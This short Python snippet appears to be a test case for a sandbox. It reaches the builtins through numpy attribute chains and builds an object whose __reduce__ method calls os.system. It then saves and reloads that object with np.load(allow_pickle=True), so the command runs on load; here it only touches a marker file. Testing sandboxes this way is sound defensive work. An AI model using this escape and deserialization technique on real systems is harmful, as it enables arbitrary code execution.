# attempts: np.load(allow_pickle=True) of a crafted in-memory .npy holding an object array with a __reduce__ payload
# effect: exec
# step: crafted npy
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
osm = imp('os')
io = imp('io')
Evil = B.type('Evil', (), {'__reduce__': B.eval("lambda self: (system, ('touch @@MARKER_DIR@@/np_load_pickle',))", {'system': osm.system})})
buf = io.BytesIO()
arr = np.empty(1, dtype=object)
arr[0] = Evil()
np.ma.core.operator.attrgetter('save')(np)(buf, arr, allow_pickle=True)
buf.seek(0)
np.ma.core.operator.attrgetter('load')(np)(buf, allow_pickle=True)
